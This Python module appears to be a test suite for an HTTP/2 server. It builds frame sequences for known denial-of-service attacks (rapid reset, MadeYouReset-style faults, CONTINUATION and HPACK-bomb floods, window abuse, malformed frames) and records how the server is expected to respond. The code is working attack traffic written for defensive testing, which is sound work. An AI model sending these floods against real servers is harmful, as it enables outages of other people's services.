"""Attacks over HTTP/2: each is the frames that a hostile client sends on one connection, part by part.

An attack that has no end of its own stops when the connection is closed, or after `FLOOD` parts.
"""

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder

FLOOD = 400  # parts of a flood
PART = 100  # frames in one of them

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8

Frames = Iterator[bytes]


@dataclass(frozen=True)
class Attack:
    """What is sent, and how it has to end: with the connection, by a GOAWAY that names an error ("closed"), or with its
    next request served ("served"). Either is right for "any"."""

    name: str
    frames: Callable[[], Frames]
    ends: str


ATTACKS: list[Attack] = []


def attack(ends: str) -> Callable[[Callable[[], Frames]], Callable[[], Frames]]:
    """Adds an attack, which is named after its function."""

    def add(frames: Callable[[], Frames]) -> Callable[[], Frames]:
        ATTACKS.append(Attack(frames.__name__.replace("_", " "), frames, ends))
        return frames

    return add


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One frame, right or wrong."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def head(method: str = "GET", *fields: tuple[str, str]) -> bytes:
    """The fields of a request, without any that the other side has to remember."""
    all_fields = [(":method", method), (":scheme", "https"), (":authority", "test"), (":path", "/a"), *fields]
    return Encoder().encode([(name, value, True) for name, value in all_fields], huffman=False)


def number(value: int) -> bytes:
    """Four bytes, as in WINDOW_UPDATE and RST_STREAM."""
    return struct.pack(">I", value)


def setting(key: int, value: int) -> bytes:
    """One of the settings."""
    return struct.pack(">HI", key, value)


def opened(stream: int, method: str = "GET", end: bool = True, *fields: tuple[str, str]) -> bytes:
    """A request in one frame."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, head(method, *fields))


# Floods: frames that are cheap to send.


def _streams(each: Callable[[int], bytes]) -> Frames:
    """Many new streams, with the same frames for each."""
    for part in range(FLOOD):
        yield b"".join(each(stream) for stream in range(2 * PART * part + 1, 2 * PART * (part + 1), 2))


@attack("closed")
def rapid_reset() -> Frames:
    block = head()
    return _streams(lambda at: frame(HEADERS, END_HEADERS | END_STREAM, at, block) + frame(RST, 0, at, number(8)))


@attack("closed")
def rapid_reset_of_requests_with_a_body() -> Frames:
    block = head("POST")
    return _streams(lambda at: frame(HEADERS, END_HEADERS, at, block) + frame(RST, 0, at, number(8)))


# MadeYouReset: faults that the server answers with a reset, so that the client never sends one.


@attack("closed")
def a_window_of_nothing_on_each_stream() -> Frames:
    block = head("POST")
    return _streams(lambda at: frame(HEADERS, END_HEADERS, at, block) + frame(WINDOW, 0, at, number(0)))


@attack("closed")
def a_window_too_large_on_each_stream() -> Frames:
    block = head("POST")
    return _streams(lambda at: frame(HEADERS, END_HEADERS, at, block) + frame(WINDOW, 0, at, number(0x7FFFFFFF)))


@attack("closed")
def data_behind_the_end_of_each_stream() -> Frames:
    block = head()
    return _streams(lambda at: frame(HEADERS, END_HEADERS | END_STREAM, at, block) + frame(DATA, 0, at, b"x"))


@attack("closed")
def a_wrong_field_on_each_stream() -> Frames:
    block = head("GET", ("connection", "close"))
    return _streams(lambda at: frame(HEADERS, END_HEADERS | END_STREAM, at, block))


@attack("closed")
def a_stream_that_depends_on_itself_each_time() -> Frames:
    block = head("POST")
    return _streams(lambda at: frame(HEADERS, END_HEADERS, at, block) + frame(PRIORITY, 0, at, number(at) + b"\x10"))


@attack("closed")
def continuation_flood() -> Frames:
    yield frame(HEADERS, 0, 1, head())
    literal = Encoder().encode([("x", "y" * 100, True)], huffman=False)
    for _part in range(FLOOD):
        yield frame(CONTINUATION, 0, 1, literal * 100)


@attack("closed")
def continuation_flood_of_empty_frames() -> Frames:
    yield frame(HEADERS, 0, 1, head())
    for _part in range(FLOOD):
        yield frame(CONTINUATION, 0, 1) * PART


@attack("served")
def settings_flood() -> Frames:
    for _part in range(FLOOD):
        yield frame(SETTINGS, 0, 0, setting(4, 65535)) * PART


@attack("served")
def ping_flood() -> Frames:
    for _part in range(FLOOD):
        yield frame(PING, 0, 0, b"12345678") * PART


@attack("served")
def priority_flood() -> Frames:
    for _part in range(FLOOD):
        yield frame(PRIORITY, 0, 1, number(3) + b"\x10") * PART


@attack("served")
def unknown_frame_flood() -> Frames:
    for _part in range(FLOOD):
        yield frame(0x42, 0, 0, b"x" * 100) * PART


@attack("served")
def window_update_flood() -> Frames:
    for _part in range(FLOOD):
        yield frame(WINDOW, 0, 0, number(1)) * PART


@attack("closed")
def empty_data_flood() -> Frames:
    yield opened(1, "POST", False)
    for _part in range(FLOOD):
        yield frame(DATA, 0, 1) * PART


@attack("closed")
def small_data_flood() -> Frames:
    yield opened(1, "POST", False)
    for _part in range(FLOOD):
        yield frame(DATA, 0, 1, b"x") * PART


@attack("closed")
def padding_flood() -> Frames:
    yield opened(1, "POST", False)
    for _part in range(FLOOD):
        yield frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255) * PART


# Lists of fields.


@attack("closed")
def hpack_bomb() -> Frames:
    for stream in range(1, 2 * FLOOD, 2):
        # One large field in the table, then a name for it in a byte, as often as a frame holds.
        block = Encoder().encode([("x", "y" * 4000)], huffman=False) + b"\xbe" * 16000
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        yield frame(HEADERS, END_STREAM, stream, parts[0]) + frame(CONTINUATION, END_HEADERS, stream, parts[1])


@attack("served")
def lists_of_many_fields() -> Frames:
    fields = b"".join(Encoder().encode([(f"x-{n}", "y", True)], huffman=False) for n in range(1500))
    for stream in range(1, 2 * FLOOD, 2):
        block = head() + fields
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block[:16384])


@attack("closed")
def a_block_that_is_no_hpack() -> Frames:
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff")


@attack("closed")
def a_table_larger_than_allowed() -> Frames:
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x3f\xe1\xff\xff\x07" + head())


# Windows.


def _wants(stream: int, body: int) -> bytes:
    """A request whose answer is larger than what it sends."""
    parts = [b"x" * min(16384, body - at) for at in range(0, body, 16384)]
    frames = [opened(stream, "POST", False, ("content-length", str(body)))]
    frames += [frame(DATA, END_STREAM if at == len(parts) - 1 else 0, stream, part) for at, part in enumerate(parts)]
    return b"".join(frames)


@attack("any")
def no_window_for_many_answers() -> Frames:
    yield frame(SETTINGS, 0, 0, setting(4, 0))
    for stream in range(1, 200, 2):
        yield _wants(stream, 9000)


@attack("any")
def a_window_that_grows_by_single_bytes() -> Frames:
    yield frame(SETTINGS, 0, 0, setting(4, 0)) + _wants(1, 60000)
    for _part in range(FLOOD):
        yield frame(WINDOW, 0, 1, number(1)) * PART


@attack("served")
def windows_that_come_and_go() -> Frames:
    # So little of each answer that the window of the connection is enough for them all.
    yield frame(SETTINGS, 0, 0, setting(4, 0)) + b"".join(_wants(stream, 4000) for stream in range(1, 50, 2))
    for _part in range(FLOOD):
        yield (frame(SETTINGS, 0, 0, setting(4, 0)) + frame(SETTINGS, 0, 0, setting(4, 1000))) * 10


@attack("closed")
def a_window_above_all_bounds() -> Frames:
    yield frame(WINDOW, 0, 0, number(0x7FFFFFFF)) * 2


@attack("closed")
def a_setting_of_a_window_above_all_bounds() -> Frames:
    yield frame(SETTINGS, 0, 0, setting(4, 0x80000000))


@attack("any")
def more_data_than_the_window_of_the_connection() -> Frames:
    yield opened(1, "POST", False)
    for _part in range(FLOOD):
        yield frame(DATA, 0, 1, b"x" * 16384)


# Frames that must not be.


def _single(name: str, body: bytes, ends: str) -> None:
    ATTACKS.append(Attack(name, lambda: iter([body]), ends))


_single("data on no stream", frame(DATA, 0, 0, b"x"), "closed")
_single("data on a stream that is not open", frame(DATA, 0, 1, b"x"), "closed")
_single("headers on no stream", frame(HEADERS, END_HEADERS | END_STREAM, 0, head()), "closed")
_single("headers on a stream of the server", opened(2), "closed")
_single("a stream that goes back", opened(5) + opened(3), "closed")
_single("a reset of a stream that is not open", frame(RST, 0, 1, number(8)), "closed")
_single("a reset of no stream", frame(RST, 0, 0, number(8)), "closed")
_single("a reset of the wrong size", opened(1) + frame(RST, 0, 1, b"12345"), "closed")
_single("a window of nothing for all", frame(WINDOW, 0, 0, number(0)), "closed")
_single("a window of the wrong size", frame(WINDOW, 0, 0, b"123"), "closed")
_single("a promise from a client", frame(PUSH, END_HEADERS, 1, number(2) + head()), "closed")
_single("a continuation of nothing", frame(CONTINUATION, END_HEADERS, 1, head()), "closed")
_single("a ping between headers", frame(HEADERS, END_STREAM, 1, head()) + frame(PING, 0, 0, b"12345678"), "closed")
_single("headers between headers", frame(HEADERS, END_STREAM, 1, head()) + opened(3), "closed")
_single("a ping of the wrong size", frame(PING, 0, 0, b"1234567"), "closed")
_single("a ping on a stream", frame(PING, 0, 1, b"12345678"), "closed")
_single("settings of the wrong size", frame(SETTINGS, 0, 0, b"12345"), "closed")
_single("settings on a stream", frame(SETTINGS, 0, 1, setting(4, 1)), "closed")
_single("an acknowledgement that says something", frame(SETTINGS, 1, 0, setting(4, 1)), "closed")
_single("a setting of push that is none", frame(SETTINGS, 0, 0, setting(2, 2)), "closed")
_single("a setting of the size of frames that is too small", frame(SETTINGS, 0, 0, setting(5, 1)), "closed")
_single("a frame that is too large", frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + b"\0" * 16384), "closed")
_single("a frame that says it is sixteen megabytes", b"\xff\xff\xff" + frame(DATA, 0, 1)[3:], "closed")
_single("padding beyond the frame", opened(1, "POST", False) + frame(DATA, PADDED, 1, b"\xff" + b"x"), "closed")
_single("padding without its length", opened(1, "POST", False) + frame(DATA, PADDED, 1), "closed")
_single("a stream that depends on itself", frame(PRIORITY, 0, 1, number(1) + b"\x10"), "any")
_single("data behind trailers", opened(1, "POST", False) + frame(DATA, 0, 1, b"x") + opened(1) + frame(DATA, 0, 1, b"x"), "any")
_single("a second head before the end", opened(1, "POST", False) + opened(1, "POST", False), "any")
_single("a word of farewell", frame(GOAWAY, 0, 0, number(0) + number(0)), "any")
_single("a setting nobody knows", frame(SETTINGS, 0, 0, setting(0x4242, 1)), "served")
_single("a frame nobody knows", frame(0x42, 0xFF, 1, b"what is this"), "served")
_single("a second preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "closed")
_single("HTTP/1", b"GET /a HTTP/1.1\r\nHost: test\r\n\r\n", "closed")
_single("zeros", b"\0" * 100_000, "closed")
